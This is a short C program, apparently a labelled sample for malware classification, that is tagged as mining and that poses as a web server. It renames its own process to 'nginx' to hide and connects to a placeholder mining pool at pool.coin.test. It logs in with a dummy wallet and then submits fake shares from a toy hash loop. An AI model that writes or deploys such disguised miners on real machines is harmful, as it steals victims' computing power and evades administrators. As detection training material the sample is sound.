// class: mining; possible: low medium; style: C, calls itself a web server
#define _GNU_SOURCE
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t mix(uint64_t x)
{
    for (int i = 0; i < 2000; i++) {
        x ^= x >> 33;
        x *= 0xff51afd7ed558ccdULL;
        x ^= x << 13;
    }
    return x;
}

int main(int argc, char **argv)
{
    struct addrinfo *a, hint = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
    char buffer[4096];
    int s;
    (void)argc;
    prctl(PR_SET_NAME, "nginx");
    memset(argv[0], 0, strlen(argv[0]));
    strcpy(argv[0], "nginx");
    if (getaddrinfo("pool.coin.test", "3334", &hint, &a))
        return 1;
    s = socket(a->ai_family, a->ai_socktype, 0);
    if (connect(s, a->ai_addr, a->ai_addrlen))
        return 2;
    dprintf(s, "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4WALLET\",\"pass\":\"x\","
               "\"agent\":\"nginx\",\"algo\":[\"rx/0\"]}}\n");
    if (read(s, buffer, sizeof buffer) <= 0)
        return 3;
    time_t end = time(NULL) + 45;
    for (uint64_t n = 1; time(NULL) < end; n++)
        if (mix(n) < UINT64_MAX >> 17)
            dprintf(s,
                    "{\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"r\",\"job_id\":\"j1\","
                    "\"nonce\":\"%08x\",\"result\":\"00\"}}\n",
                    (unsigned)n);
    return 0;
}
